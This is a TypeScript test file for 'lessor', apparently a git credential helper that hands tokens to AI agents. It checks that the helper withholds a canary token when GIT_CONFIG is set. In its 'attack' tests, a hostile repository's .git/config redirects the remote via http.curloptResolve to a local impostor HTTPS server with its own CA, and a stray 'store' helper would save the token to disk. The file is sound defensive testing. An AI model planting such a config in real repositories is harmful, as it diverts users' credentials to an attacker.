/**
 * `lessor git-credential get` checks the repository's own git config (routing and trust keys, its
 * own credential.helper) and every other helper git would hand the answer to, by running
 * `git config --show-scope -z --get-regexp …` in git's directory and environment
 * (src/cli/credentials/repo-transport.ts). `GIT_CONFIG` in that environment changes only what
 * `git config` reads (git-config(1): "use the file given by GIT_CONFIG as if it were provided via
 * --file … no effect on other Git commands"): the git that asks the helper still reads the
 * repository's `.git/config` and the owner's `~/.gitconfig`, while the helper's check read only that
 * one file, saw nothing, and answered. Real git, the built CLI, real TLS on 127.0.0.1 (git reaches
 * the name through http.curloptResolve: no lookup, nothing leaves the machine).
 */
import { spawn, spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { appendFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import * as https from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { initHome, openVault } from "../src/config/open-vault.js";
import { LocalCa } from "../src/proxy/ca.js";
import { BIN } from "./cli-harness.js";
import { gitEnv } from "./fixtures/git-http-backend.js";

const GIT = "/usr/bin/git";
const HAVE_GIT = spawnSync(GIT, ["--version"]).status === 0;
const CANARY = "ghp_gcenv_" + randomBytes(16).toString("hex");

const root = mkdtempSync(join(tmpdir(), "lessor-helpers-gcenv-"));
process.on("exit", () => rmSync(root, { recursive: true, force: true }));
const HOME = join(root, "home");
const LESSOR_HOME = join(root, "lessor");
const EVIL_CA_FILE = join(root, "evil-ca.pem");
/** A file of the owner's, named by GIT_CONFIG (a legacy setup; any file will do, an empty one too). */
const OWNER_FILE = join(root, "owner-legacy.gitconfig");

const POLICY = `
[[rule]]
name = "git"
effect = "allow"
agents = ["claude"]
secrets = ["github-token"]
domains = ["git.test.example"]
`;

interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
}
function run(cmd: string, args: string[], env: NodeJS.ProcessEnv, cwd: string): Promise<Ran> {
  return new Promise((resolve, reject) => {
    const child = spawn(cmd, args, { env, cwd, stdio: ["pipe", "pipe", "pipe"] });
    const out: Buffer[] = [];
    const err: Buffer[] = [];
    child.stdout.on("data", (d: Buffer) => out.push(d));
    child.stderr.on("data", (d: Buffer) => err.push(d));
    const timer = setTimeout(() => child.kill("SIGKILL"), 30_000);
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, stdout: Buffer.concat(out).toString("utf8"), stderr: Buffer.concat(err).toString("utf8") });
    });
    child.stdin.end();
  });
}
const HELPER = (): string => `!'${process.execPath}' -- '${BIN}' git-credential --agent claude --secret github-token`;

interface Recorder {
  port: number;
  seen: { auth: string }[];
  server: https.Server;
}
async function recorder(ca: LocalCa, name: string): Promise<Recorder> {
  const seen: Recorder["seen"] = [];
  const server = https.createServer({ SNICallback: ca.sniCallback, secureContext: ca.secureContextFor(name) }, (rq, rs) => {
    rq.resume();
    rq.on("end", () => {
      const auth = String(rq.headers.authorization ?? "");
      seen.push({ auth });
      if (auth === "") {
        rs.writeHead(401, { "www-authenticate": 'Basic realm="attack"', "content-type": "text/plain" });
        rs.end("auth\n");
      } else {
        // Accepted: git then hands the credential to every helper's `store`.
        rs.writeHead(200, { "content-type": "application/x-git-upload-pack-advertisement" });
        rs.end("001e# service=git-upload-pack\n0000");
      }
    });
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return { port: (server.address() as AddressInfo).port, seen, server };
}
const decodeAuth = (a: string): string => (a.startsWith("Basic ") ? Buffer.from(a.slice(6), "base64").toString("utf8") : a);

let evil: Recorder;

describe("git-credential's config check and GIT_CONFIG", { skip: HAVE_GIT ? false : "git is not installed" }, () => {
  before(async () => {
    mkdirSync(HOME, { recursive: true });
    writeFileSync(OWNER_FILE, "");
    const evilCa = LocalCa.create({ permitted: ["git.test.example"] });
    writeFileSync(EVIL_CA_FILE, evilCa.certPem);
    evil = await recorder(evilCa, "git.test.example");
    await initHome({ home: LESSOR_HOME, env: { LESSOR_HOME } });
    writeFileSync(join(LESSOR_HOME, "policy.toml"), POLICY, { mode: 0o600 });
    const v = await openVault({ home: LESSOR_HOME, env: { LESSOR_HOME } });
    try {
      await v.admin().storeSecret({ name: "github-token", value: CANARY });
    } finally {
      await v.close();
    }
  });
  after(async () => {
    evil?.server.closeAllConnections();
    await new Promise<void>((r) => (evil ? evil.server.close(() => r()) : r()));
  });

  test("attack: a hostile repository's .git/config (curloptResolve + its own CA) with GIT_CONFIG set in the owner's environment: no answer, the impostor gets no token", async () => {
    const repo = join(root, "hostile");
    mkdirSync(repo, { recursive: true });
    spawnSync(GIT, ["init", "-q", repo], { env: gitEnv(HOME) });
    writeFileSync(join(repo, "evil-ca.pem"), readFileSync(EVIL_CA_FILE));
    appendFileSync(
      join(repo, ".git", "config"),
      [
        `[remote "origin"]`,
        `\turl = https://git.test.example:${evil.port}/repo.git`,
        `\tfetch = +refs/heads/*:refs/remotes/origin/*`,
        `[http]`,
        `\tcurloptResolve = git.test.example:${evil.port}:127.0.0.1`,
        `\tsslCAInfo = ${join(repo, "evil-ca.pem")}`,
        "",
      ].join("\n"),
    );
    const env = { ...gitEnv(HOME), LESSOR_HOME, NO_COLOR: "1" };
    // Control: without GIT_CONFIG the helper sees the repository's routing and answers nothing.
    const b0 = evil.seen.length;
    const r0 = await run(GIT, ["-c", "credential.helper=", "-c", `credential.helper=${HELPER()}`, "fetch", "-q", "origin"], env, repo);
    assert.match(r0.stderr, /repository's own git config/);
    assert.equal(evil.seen.slice(b0).filter((s) => decodeAuth(s.auth).includes(CANARY)).length, 0);
    // The same fetch with GIT_CONFIG naming an owner's file: git itself still reads .git/config.
    const b1 = evil.seen.length;
    const r1 = await run(GIT, ["-c", "credential.helper=", "-c", `credential.helper=${HELPER()}`, "fetch", "-q", "origin"], { ...env, GIT_CONFIG: OWNER_FILE }, repo);
    const leaked = evil.seen.slice(b1).filter((s) => decodeAuth(s.auth).includes(CANARY));
    assert.equal(leaked.length, 0, `the impostor named by the repository's own .git/config got the token (git stderr: ${JSON.stringify(r1.stderr.slice(0, 300))})`);
    assert.match(r1.stderr, /repository's own git config/);
  });

  test("attack: a generic credential.helper = store in ~/.gitconfig beside lessor's line, with GIT_CONFIG set: lessor answers nothing and nothing reaches ~/.git-credentials", async () => {
    const home2 = join(root, "home2");
    mkdirSync(home2, { recursive: true });
    const gitconfig = join(home2, ".gitconfig");
    const store = join(home2, ".git-credentials");
    // The owner's global config: a generic store helper, and lessor's line added for the host without the reset.
    writeFileSync(gitconfig, `[credential]\n\thelper = store\n[credential "https://git.test.example:${evil.port}"]\n\thelper = ${HELPER().replace(/\\/g, "\\\\").replace(/"/g, '\\"')}\n`);
    const repo = join(root, "honest");
    mkdirSync(repo, { recursive: true });
    spawnSync(GIT, ["init", "-q", repo], { env: { ...gitEnv(home2) } });
    const env = { PATH: "/usr/bin:/bin", HOME: home2, GIT_CONFIG_NOSYSTEM: "1", GIT_TERMINAL_PROMPT: "0", LESSOR_HOME, NO_COLOR: "1" };
    const args = [
      "-c", `http.curloptResolve=git.test.example:${evil.port}:127.0.0.1`,
      "-c", `http.sslCAInfo=${EVIL_CA_FILE}`,
      "ls-remote", `https://git.test.example:${evil.port}/repo.git`,
    ];
    // Control: without GIT_CONFIG the helper sees the store helper and answers nothing.
    const r0 = await run(GIT, args, env, repo);
    assert.match(r0.stderr, /git would also hand the answer to/);
    assert.ok(!existsSync(store) || !readFileSync(store, "utf8").includes(CANARY));
    const r1 = await run(GIT, args, { ...env, GIT_CONFIG: OWNER_FILE }, repo);
    const onDisk = existsSync(store) ? readFileSync(store, "utf8") : "";
    assert.ok(!onDisk.includes(CANARY), `lessor's answer was kept in ~/.git-credentials by the store helper its check did not see (git stderr: ${JSON.stringify(r1.stderr.slice(0, 300))})`);
    assert.match(r1.stderr, /git would also hand the answer to/);
  });
});
